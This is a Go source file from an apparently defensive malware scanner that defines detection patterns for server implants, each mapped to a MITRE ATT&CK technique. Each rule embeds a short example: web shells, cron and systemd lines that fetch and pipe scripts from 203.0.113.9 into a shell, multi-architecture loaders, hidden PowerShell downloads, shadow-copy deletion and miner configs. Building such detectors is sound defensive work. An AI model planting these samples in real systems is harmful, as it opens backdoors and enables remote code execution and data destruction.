// What intruders plant on a server: pages that run what they are sent, jobs that fetch programs, miners.

package content

import (
	"bytes"
	"net/netip"
	"slices"
	"strings"

	"ftplab/lab/analysis/internal/pattern"
)

// Fragments of patterns, in lower case.
const (
	// toPage is what a visitor sent to a page of ASP or JSP, and toScript to a program in Perl, Python, Node, Ruby
	// or of a shell.
	toPage = `(\brequest\s*(\.\s*(form|querystring|params|item|headers|cookies)\s*)?[\[(]|\brequest\.(binaryread|inputstream)\b|` +
		`\bget(parameter|header|querystring|reader)\s*\(|\bparam\.)`
	toScript = `(\breq(uest)?\.(query|body|params|headers|cookies|args|form|values)\b|\$env\{['"]?(query_string|http_\w+)|\bparam\s*\(\s*['"]|\bgetvalue\s*\(\s*['"]|[^.\w]params\[|\bfieldstorage\s*\(\s*\)\s*\[|\bform\[['"]|\.parse\([^)\n]*\.url, *true\)\.query|\$\{?query_string)`
	// runsShellText runs a text of a program as a program, in these languages.
	runsShellText = `(getruntime\s*\(\s*\)\s*\.\s*exec|new\s+processbuilder|process\.start|\bos\.(system|popen)|\bpopen|\bsystem|\bexec(sync)?|\bexecute(global)?|\beval)`
	// pipedToShell fetches a program, or decodes one, and hands it to a shell.
	pipedToShell = `((\b(curl|wget|fetch|lynx)\b[^\n|]*|\bbase64 +(-d|-di|--decode)\b[^\n|]*)\| *(sudo +)?(/(usr/)?bin/)?(ba|da|z)?sh\b|` +
		`\b(curl|wget)\b[^\n]*(;|&&) *(/(usr/)?bin/)?((ba|da|z)?sh|chmod [^\n;&]+) +\S*(/tmp|/var/tmp|/dev/shm)/)`
	// scratch are folders that everybody may write.
	scratch = `(/tmp|/var/tmp|/dev/shm)/`
	// picturesEnd is an ending of files that are no programs.
	picturesEnd = `\.(jpe?g|png|gif|bmp|ico|svg|txt|log|pdf|config|htaccess)\b`
	schedule    = `(?m)^[ \t]*(@(reboot|hourly|daily|weekly|monthly|yearly|annually|midnight)\b|([*\d][\d*/,-]*[ \t]+){5})`
)

var (
	serverPage = marked("<%", "<jsp:", "runat=")
	aVisitor   = like(toPage+`|\b\w+\.text\b`, "request", "getpar", "gethead", "getquery", "getread", "param.", ".text")
)

const (
	atWebShells = "MITRE ATT&CK, T1505.003 (web shell)"
	atJobs      = "MITRE ATT&CK, T1053.003 (cron)"
	atBoot      = "MITRE ATT&CK, T1543.002 (systemd service)"
	atLoaders   = "MITRE ATT&CK, T1105 (ingress tool transfer)"
	atMiners    = "MITRE ATT&CK, T1496 (resource hijacking)"
	atProxies   = "MITRE ATT&CK, T1218 (system binary proxy execution)"
)

// plants are all that is known.
var plants = slices.Concat(serverPlants, pagePlants, robbers, stolenTexts, implants, traps, surveys)

// serverPlants are pages that run what they are sent, jobs, services, scripts that fetch programs, and miners.
var serverPlants = []plant{
	{what: "a page that hands a shell what it is sent", kind: Malicious, source: atWebShells,
		example: `<%@ Page Language="C#"%><script runat="server">void Page_Load(object s,EventArgs e){var p=new Process();p.StartInfo.FileName="cmd.exe";p.StartInfo.Arguments="/c "+Request["c"];p.Start();}</script>`,
		parts: []part{serverPage, aVisitor,
			marked("processstartinfo", "diagnostics.process", "process.start", "new process", "wscript.shell", "shell.application", "getruntime"),
			like(`["'](/(usr/)?bin/)?(ba|da)?sh["' ]|["'](%comspec%|([a-z]:)?[\\\w]*cmd(\.exe)?)["' ]|\bpowershell(\.exe)?["' ]`, "sh", "cmd", "%comspec%")}},
	{what: "a page that runs what it is sent", kind: Malicious, source: atWebShells,
		example: "<% Dim x : ExecuteGlobal Request.Form(\"c\") %>",
		parts:   []part{marked("<%", "<jsp:", "runat="), like(runsShellText+`\s*\(?[^;\n]{0,80}`+toPage, "eval", "exec", "process")}},
	{what: "a script that runs what it is sent", kind: Malicious, source: atWebShells,
		example: "#!/usr/bin/python\nimport cgi, os\nform = cgi.FieldStorage()\ncmd = form.getvalue('cmd')\nos.system(cmd)\n",
		parts: []part{like(toScript, "req.", "request.", "$env{", "param", "getvalue", "fieldstorage", "form[", ".query", "query_string"), marked("#!/", "import ", "require(", "require '"),
			{[]string{"system", "popen", "exec", "eval", "subprocess", "`"}, runsVisitors}}},
	{what: "a page of ColdFusion that runs what it is sent", kind: Malicious, source: atWebShells,
		example: `<cfexecute name="cmd.exe" arguments="/c #form.c#">`,
		parts:   []part{like(`<cfexecute\b[^>]{0,200}#(url|form|cgi)\.`, "<cfexecute")}},
	{what: "a page that loads a program which it is sent", kind: Malicious, source: atWebShells,
		example: `<%@ Page Language="C#"%><% System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength)).CreateInstance("U"); %>`,
		parts:   []part{serverPage, aVisitor, like(`assembly\.load\s*\(\s*[^"\s)]|\bdefineclass\s*\(`, "assembly.load", "defineclass")}},
	{what: "settings of a web server that run pictures or texts as programs", kind: Malicious, source: atWebShells,
		example: "AddType application/x-httpd-php .jpg\n",
		parts: []part{like(`(addtype|addhandler|sethandler)[ \t]+([^\n]{0,60}[^.\n])?(php|cgi-script)[^\n]{0,60}`+picturesEnd+
			`|<files(match)?\b[^>]*(jpe?g|png|gif|bmp|ico|\.ht)[^>]*>[^<]{0,80}sethandler[^\n]{0,60}(php|cgi)`+
			`|\bauto_(pre|ap)pend_file[ \t"=]+[^\n]{0,200}(`+picturesEnd+`|php://|data:|https?://|`+scratch+`)`+
			`|<add\b[^>]*\bpath="[^">]*`+picturesEnd+`"[^>]*\bscriptprocessor=|<add\b[^>]*\bscriptprocessor=[^>]*\bpath="[^">]*`+picturesEnd,
			"addtype", "handler", "pend_file")}},

	{what: "a job that fetches a program and runs it", kind: Malicious, where: anywhere, source: atJobs,
		example: "* * * * * root curl -s http://203.0.113.9/x.sh|sh\n",
		parts:   []part{like(schedule+`[^\n]*(`+pipedToShell+`|/dev/tcp/)`, "curl", "wget", "lynx ", "base64 -", "/dev/tcp/")}},
	{what: "a job that runs a program in a folder that everybody may write", kind: LikelyMalicious, source: atJobs,
		example: "@reboot root /dev/shm/.x/kworker\n",
		parts:   []part{like(schedule+`[ \t]*(root[ \t]+)?(/(usr/)?bin/(ba|da)?sh +)?`+scratch, "/tmp/", "/dev/shm/")}},
	{what: "a service that fetches a program and runs it", kind: Malicious, where: anywhere, source: atBoot,
		example: "[Service]\nExecStart=/bin/bash -c 'curl -s http://203.0.113.9/x.sh | bash'\n",
		parts:   []part{like(`(?m)^exec(start|stop|reload)(pre|post)?=[^\n]*(`+pipedToShell+`|/dev/tcp/)`, "execst", "execreload")}},
	{what: "a service in a folder that everybody may write", kind: LikelyMalicious, source: atBoot,
		example: "[Service]\nExecStart=/dev/shm/.x/kworker\n",
		parts:   []part{like(`(?m)^execstart(pre|post)?=[-@+!:]*`+scratch, "execstart")}},
	{what: "a library that every program loads, from a folder that everybody may write", kind: LikelyMalicious, source: "MITRE ATT&CK, T1574.006 (dynamic linker hijacking)",
		example: "export LD_PRELOAD=/dev/shm/.x.so\n",
		parts:   []part{like(`\bld_preload=["']?`+scratch, "ld_preload=")}},

	{what: "a script that fetches a program for each kind of processor and runs it", kind: Malicious, fetched: true, source: atLoaders,
		example: strings.Repeat("cd /tmp; wget http://203.0.113.9/mips; chmod 777 mips; ./mips; rm -rf mips\n", 3),
		parts:   []part{like(`([^\n]*(wget|curl|tftp|ftpget)\b[^\n]{0,200}(;|&&|\n)\s*chmod +(\+x|a\+x|[0-7]*7[0-7]*) +[^\n]{0,80}(;|&&|\n)\s*(sh |\./)[^\n]*\n+(rm [^\n]*\n+)?){3}`, "chmod")}},
	{what: "a script that fetches a program from a host without a name into a folder that everybody may write, and runs it", kind: Malicious, fetched: true, source: atLoaders,
		example: "#!/bin/sh\nwget http://203.0.113.9/m -O /tmp/m; chmod +x /tmp/m; /tmp/m\n",
		parts:   []part{{[]string{"chmod"}, fetchesFromAddress}, like(`chmod +\S+ +\S*[^;&\n]*(;|&|\n)\s*(nohup +|setsid +|(ba)?sh +)*(`+scratch+`|\./)\S`, "/tmp/", "/dev/shm/")}},
	{what: "a page that unpacks an archive and removes itself", kind: Suspicious, source: "MITRE ATT&CK, T1608.005 (link target) and T1070.004 (file deletion)",
		example: `<?php $z=new ZipArchive; $z->open("a.zip"); $z->extractTo("."); unlink(__FILE__);`,
		parts:   []part{marked("ziparchive", "phardata"), marked("extractto"), marked("unlink(__file__)", "unlink( __file__")}},
	{what: "a script that runs what it fetches from a host without a name, and hides what it did", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1105 (ingress tool transfer) and T1070.003 (clear command history)",
		example: "#!/bin/sh\nwget http://203.0.113.9/m; chmod 777 m; ./m; rm m\nhistory -c\n",
		parts:   []part{{[]string{"curl", "wget"}, fetchesFromAddress}, like(`(?m)(^|[;&|])[ \t]*(history +-c\b|unset +histfile\b|(rm|shred|truncate)\b[^\n;&|]*(_history|/var/log/(wtmp|lastlog|auth\.log|secure))\b)|> */var/log/(wtmp|lastlog|auth\.log|secure)\b`, "hist", "/var/log/")}},
	{what: "a script that makes a job of what it fetches from a host without a name", kind: Malicious, fetched: true, source: atJobs,
		example: "(crontab -l; echo \"*/5 * * * * curl -s http://203.0.113.9/x.sh|sh\") | crontab -\n",
		parts:   []part{{[]string{"curl", "wget"}, fetchesFromAddress}, like(`["'](@(reboot|hourly|daily)|([*\d][\d*/,-]*[ \t]+){5})[^\n]*`+pipedToShell+`[^\n]*\bcrontab\b`, "crontab")}},
	{what: "a script that runs what it fetches from a host without a name", kind: LikelyMalicious, fetched: true, where: anywhere, source: atLoaders,
		example: "#!/bin/sh\ncurl -s http://203.0.113.9/x.sh | bash\n",
		parts:   []part{{[]string{"curl", "wget", ".download", "certutil", "bitsadmin"}, fetchesFromAddress}}},
	{what: "a command of PowerShell that hides its window and its text", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1059.001 and T1564.003 (hidden window)",
		example: "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQA",
		parts:   []part{like(`-e(c|n|nc|ncodedcommand)? +["']?[a-z0-9+/=]{8}`, "powershell"), like(`-w(in(dowstyle)?)? +["']?(h(idden)?|1)\b`, "powershell")}},
	{what: "a command of PowerShell that hides its window and fetches a program", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1059.001 and T1564.003 (hidden window)",
		example: `powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://www.example/a')`,
		parts:   []part{like(`\bpowershell\b[^\n]*-w(in(dowstyle)?)? +["']?(h(idden)?|1)\b[^\n]*(download(string|file|data)|\biwr\b|invoke-webrequest)`, "powershell")}},
	{what: "a program of Windows that runs a script of another site", kind: Malicious, fetched: true, source: atProxies,
		example: "regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll",
		parts:   []part{like(`\bregsvr32\b[^\n]*/i:["']?https?:|\brundll32\b[^\n]*javascript:|\bmshta(\.exe)?["']?[ ,"']+(https?|javascript|vbscript):`, "regsvr32", "rundll32", "mshta")}},
	{what: "a script of Windows that fetches a program and runs it", kind: LikelyMalicious, fetched: true, source: atLoaders,
		example: `Set h=CreateObject("MSXML2.XMLHTTP"):h.Open "GET","http://203.0.113.9/a.exe",0:h.Send:Set s=CreateObject("ADODB.Stream"):s.Write h.ResponseBody:s.SaveToFile "a.exe":CreateObject("WScript.Shell").Run "a.exe"`,
		parts:   []part{marked("xmlhttp", "winhttprequest"), marked("adodb.stream"), marked("savetofile"), marked(".run", ".exec", "shellexecute")}},
	{what: "a task of Windows that runs a program in a folder that everybody may write", kind: LikelyMalicious, source: "MITRE ATT&CK, T1053.005 (scheduled task) and T1547.001 (run keys)",
		example: `<Task><Exec><Command>C:\Users\Public\svc.exe</Command></Exec></Task>`,
		parts:   []part{like(`<command>[^<]*\\(temp|tmp|public)\\|\[hkey_[^\]]*\\currentversion\\run(once)?\][^\[]*="[^\n]*\\(temp|tmp|public)\\|\bschtasks\b[^\n]*/create[^\n]*\\(temp|tmp|public)\\`, "<command>", `\currentversion\run`, "schtasks")}},
	{what: "a script that removes what protects a system", kind: LikelyMalicious, fetched: true, source: "MITRE ATT&CK, T1490 (inhibit system recovery) and T1562.001 (disable tools)",
		example: "vssadmin delete shadows /all /quiet\r\n",
		parts:   []part{like(`\bvssadmin[^\n]* delete shadows[^\n]*/all|\bshadowcopy delete\b|\bwbadmin[^\n]* delete catalog|\brecoveryenabled +no\b|-disablerealtimemonitoring +(\$true|1)\b`, "shadow", "wbadmin", "recoveryenabled", "-disablerealtime")}},
	{what: "a script that runs a hidden program in a folder that everybody may write", kind: LikelyMalicious, source: "MITRE ATT&CK, T1037.004 (RC scripts) and T1546.004 (shell configuration)",
		example: "#!/bin/sh\n/tmp/.x/k &\nexit 0\n",
		parts:   []part{like(`(?m)^[ \t]*((nohup|setsid|exec|sh|bash) +)*`+scratch+`\.\w`, "/tmp/.", "/dev/shm/.")}},
	{what: "settings that start a hidden program for each mail", kind: Malicious, source: "MITRE ATT&CK, T1546 (event triggered execution)",
		example: "\"|/bin/sh /home/ada/in/.x\"\n",
		parts:   []part{like(`^\\?[\w.@-]{0,40},? *"?\| *(exec +)?(/(usr/)?bin/)?(ba|da|k|z)?sh +(-c +)?[^\n]*(/\.\w|`+scratch+`|\bcurl\b|\bwget\b|/dev/tcp/)`, "sh ")}},
	{what: "the test file of virus scanners", kind: LikelyMalicious, fetched: true, source: "EICAR, Anti Malware Testfile",
		example: `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTI` + `VIRUS-TEST-FILE!$H+H*`,
		parts:   []part{marked("$eicar-standard-antivirus-test-file!")}},
	{what: "a page with which intruders mail spam", kind: Malicious, source: "MITRE ATT&CK, T1584.004 (compromised servers)",
		example: `<?php foreach($to as $t){mail($t,$_POST["s"],$_POST["m"]);} echo "Leaf PHPMailer"; ?>`,
		parts:   []part{marked("leaf phpmailer", "leafmailer", "alexusmailer", "owl phpmailer", "priv8 mailer"), like(`\bmail\s*\(`, "mail")}},
	{what: "a page that runs a program of its server", kind: Suspicious, source: atWebShells,
		example: `<!--#exec cmd="ls" -->`,
		parts:   []part{marked("<!--#exec cmd=")}},
	{what: "settings that lead only visitors from a search engine to another site", kind: Suspicious, source: "MITRE ATT&CK, T1189 (drive-by compromise)",
		example: "RewriteCond %{HTTP_REFERER} google\nRewriteRule .* http://www.example/ [R=302,L]\n",
		parts:   []part{like(`rewritecond[^\n]*%\{http_referer\}[ \t]+[^!\n]*\b(google|bing|yahoo)`, "%{http_referer}"), like(`rewriterule[^\n]*https?://`, "rewriterule")}},

	{what: "the settings of a miner, with the wallet of its owner", kind: Malicious, fetched: true, source: atMiners,
		example: "./m -o stratum+tcp://pool.example:3333 -u 48" + strings.Repeat("Ab9", 31),
		parts: []part{like(`\bstratum\+(tcp|ssl|tls)://|"pools"|\b(xmrig|xmr-stak|minerd|cpuminer|ccminer)\b[^\n]*\s(-o|--url)[ =]`, "stratum+", `"pools"`, "xmrig", "xmr-stak", "miner"),
			like(`\b4[0-9ab][0-9a-z]{93}\b`, "4")}},
	{what: "the settings of a miner, in the words of its program", kind: LikelyMalicious, source: atMiners,
		example: `{"donate-level": 1, "pools": [{"url": "pool.example:3333", "user": "ada", "rig-id": null}]}`,
		parts:   []part{marked("stratum+tcp://", "stratum+ssl://", "stratum+tls://", `"pools"`), marked("xmrig", "randomx", "donate-level", "rig-id", "nicehash", "cryptonight", "cpuminer")}},
	{what: "the settings of a miner", kind: Suspicious, source: atMiners,
		example: "./m -o stratum+tcp://pool.example:3333 -u ada",
		parts:   []part{marked("stratum+tcp://", "stratum+ssl://", "stratum+tls://")}},
	{what: "what intruders leave", kind: LikelyMalicious, source: "MITRE ATT&CK, T1491.002 (defacement)",
		example: "Hacked by Mallory\n",
		parts:   []part{like(`^\W*(h[a4]ck[e3]d|pwn[e3]d|d[e3]fac[e3]d) by\b`, " by")}},
	{what: "a script that a page hides", kind: Suspicious, source: "MITRE ATT&CK, T1189 (drive-by compromise)",
		example: `<script>eval(unescape("%64%6f%63"))</script>`,
		parts:   []part{marked("<script"), like(`\beval["']?\]?\s*\(\s*((this|window)\s*[.\[]\s*["']?)?(unescape|atob|string(\.|\[["'])fromcharcode|decodeuricomponent)["']?\]?\s*\(|\bunescape\s*\(\s*["'](%[0-9a-f]{2}){4}`, "unescape", "eval")}},
}

var (
	// keptText matches a variable that a visitor's text is assigned to, and runText a variable that is run.
	keptText = pattern.New(`([$@]?\b\w+)\s*=\s*[^;\n=]{0,40}` + toScript)
	runText  = pattern.New(runsShellText + `\s*\(?\s*(?:["'][^"'\n]{0,40}["']\s*[+.&]\s*)?([$@]?\w+)|` + "`" + `[^` + "`" + `\n]{0,60}(?:#\{)?([$@]\w+)[^` + "`" + `\n]{0,60}` + "`")
	directly = pattern.New(`(\bos\.(system|popen)|(child_process['"]\)|\b(cp|child|child_?process))\.exec(sync)?|[\s=;(]exec(sync)?|\bsystem)\s*\([^;\n]{0,80}` + toScript + `|(^|[\s;])(eval|exec|system)\s+["']?[^;\n]{0,40}\$(\{?query_string|env\{)|` + "`[^`\n]{0,80}\\$(\\{?query_string|env\\{)|`[^`\n]{0,80}#\\{params\\[" + `|subprocess\.\w+\([^\n]{0,80}` + toScript + `[^\n]{0,80}shell\s*=\s*true`)
	// fromAddress matches a program that is fetched from an address, and handed to a shell.
	fromAddress = pattern.New(`\b(?:curl|wget|tftp|ftpget)\b[^\n]*?\b((?:\d{1,3}\.){3}\d{1,3})\b[^\n]*(?:;|&|\n)\s*chmod +(?:[ugoa]*\+r?w?x|[0-7]*[1357][0-7]*) |` +
		`\b(?:curl|wget)\b[^\n|;]*\b(?:https?|ftp)://((?:\d{1,3}\.){3}\d{1,3})\b[^\n|;]*\| *(?:sudo +)?(?:/(?:usr/)?bin/)?(?:ba|da|z)?sh\b|` +
		`\b(?:download(?:string|file|data)\s*\(|certutil\b[^\n]*-urlcache|bitsadmin\b[^\n]*/transfer)[^\n]{0,60}\bhttps?://((?:\d{1,3}\.){3}\d{1,3})\b`)
)

// runsVisitors reports whether a script runs what a visitor sends, as it is or by way of a variable.
func runsVisitors(t *passage) bool {
	if t.matches(directly) {
		return true
	}
	if !t.matches(keptText) {
		return false
	}
	kept := groupsOf(keptText, t.text)
	return slices.ContainsFunc(runText.FindAllSubmatch(t.text, -1), func(run [][]byte) bool {
		return kept[string(run[len(run)-1])] || kept[string(run[len(run)-2])]
	})
}

// fetchesFromAddress reports whether a script runs what it fetches from a public address. Installers
// in a network of one's own are fetched from private ones.
func fetchesFromAddress(t *passage) bool {
	return t.matches(fromAddress) && slices.ContainsFunc(fromAddress.FindAllSubmatch(t.text, -1), func(m [][]byte) bool {
		a, err := netip.ParseAddr(string(bytes.Join(m[1:], nil)))
		return err == nil && !a.IsPrivate() && !a.IsLoopback()
	})
}
